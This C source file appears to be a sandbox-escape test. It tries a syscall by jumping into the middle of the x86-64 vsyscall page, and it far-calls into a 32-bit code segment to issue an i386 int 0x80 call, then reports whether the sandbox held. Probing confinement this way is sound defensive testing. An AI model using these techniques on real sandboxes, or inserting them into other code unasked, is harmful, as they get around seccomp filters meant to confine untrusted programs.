/* Uses the two old doors of x86-64. The vsyscall page lies at a fixed address
 * and held a real syscall instruction once: a jump into its middle made any
 * call. And a far call into the 32-bit code segment changes how the processor
 * reads code, in which int 0x80 is a call of i386. What must stop it: the page
 * is emulated at its three entries only, and seccomp looks at the architecture
 * of every call. */
#include "attack.h"
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define PAGE 0xffffffffff600000UL

static void into_the_middle(void)
{
	for (int offset = 1; offset < 16; offset++) {
		long result = SYS_getpid;
		pid_t child = fork();
		if (child == 0) {
			__asm__ volatile("call *%1" : "+a"(result) : "r"(PAGE + offset) : "rcx", "r11", "memory");
			_exit(result == getpid() ? BROKE_STATUS : 0);
		}
		int status;
		waitpid(child, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == BROKE_STATUS)
			broke("a call from offset %d of the vsyscall page", offset);
	}
}

static void read_page(void)
{
	if (*(volatile uint8_t *)(PAGE + 7) == 0x0f && *(volatile uint8_t *)(PAGE + 8) == 0x05)
		broke("the vsyscall page holds a syscall instruction");
}

int main(void)
{
	/* mov eax, 20 (getpid); int 0x80; retf */
	static const uint8_t code32[] = {0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xcb};
	apart(into_the_middle, "jump into the page");
	apart(read_page, "read the page");
	uint8_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED)
		held("mmap: %s", strerror(errno));
	memcpy(low, code32, sizeof code32);
	/* The call pushes on a stack of 32 bits, so that has to be low as well. */
	static struct { uint32_t offset; uint16_t segment; } target;
	target.offset = (uintptr_t)low;
	target.segment = 0x23;
	long result = -1;
	__asm__ volatile("mov %%rsp, %%r12; mov %2, %%rsp; lcall *%1; mov %%r12, %%rsp"
		: "=a"(result) : "m"(target), "r"(low + 4096) : "rcx", "rdx", "rbx", "r8", "r9", "r10", "r11", "r12", "memory");
	if (result == getpid())
		broke("a 32-bit call from a 32-bit segment");
	held("the far call says %ld", result);
}
